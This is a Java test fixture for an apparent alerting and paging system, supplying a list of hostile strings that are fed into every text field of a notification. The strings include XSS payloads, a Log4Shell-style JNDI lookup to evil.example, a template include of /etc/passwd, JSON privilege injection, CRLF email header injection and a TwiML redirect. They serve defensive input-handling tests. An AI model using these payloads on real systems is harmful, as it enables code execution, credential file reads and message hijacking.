package tocsin.notifier.channel;

import tocsin.notifier.delivery.Command;
import tocsin.notifier.delivery.Message;
import tocsin.notifier.delivery.Notification;
import tocsin.notifier.delivery.Pages;

import java.util.List;
import java.util.Map;

/// Texts as labels and annotations may hold them, by accident or not.
public final class HostileText {
    public static final List<String> ALL =
            List.of(
                    "<!channel> <!here> <@U012AB3CD> @everyone @here",
                    "<script>alert(1)</script><img src=x onerror=alert(1)>",
                    "](https://evil.example) *bold* _it_ `code` ~strike~ [a](javascript:alert(1))",
                    "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a} %s%n",
                    "\"}],\"admin\":true,\"x\":[{\"",
                    "gone\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>",
                    "\u001b[2J\u0000\u0007\u0008\u007f\u0085\u2028\u2029",
                    "\u202Eesrever\u202C \u2066iso\u2069 zero\u200Bwidth \uFEFF",
                    "lone \uD800 surrogate, e\u0301\u0301\u0301\u0301, \uD83D\uDD25",
                    "<Say>hello</Say><Redirect>http://evil.example</Redirect>&amp;&#x0;",
                    "long ".repeat(20_000));

    private HostileText() {}

    /// A page in which every text of the message is this one.
    public static Notification notification(String text) {
        return notification(text, Command.Kind.PAGE);
    }

    public static Notification notification(String text, Command.Kind kind) {
        var plain = Pages.command("p1", kind, 1, "phone");
        var message =
                new Message(
                        "SEV1",
                        text,
                        text,
                        text,
                        text,
                        text,
                        Pages.NINE,
                        Map.of(text, text),
                        1,
                        List.of(new Message.Detail(text, text)),
                        false);
        return new Notification(
                new Command.Notify(
                        plain.page(),
                        plain.source(),
                        plain.kind(),
                        text,
                        text,
                        text,
                        plain.channels(),
                        plain.validUntil(),
                        message),
                "phone",
                1,
                false);
    }
}
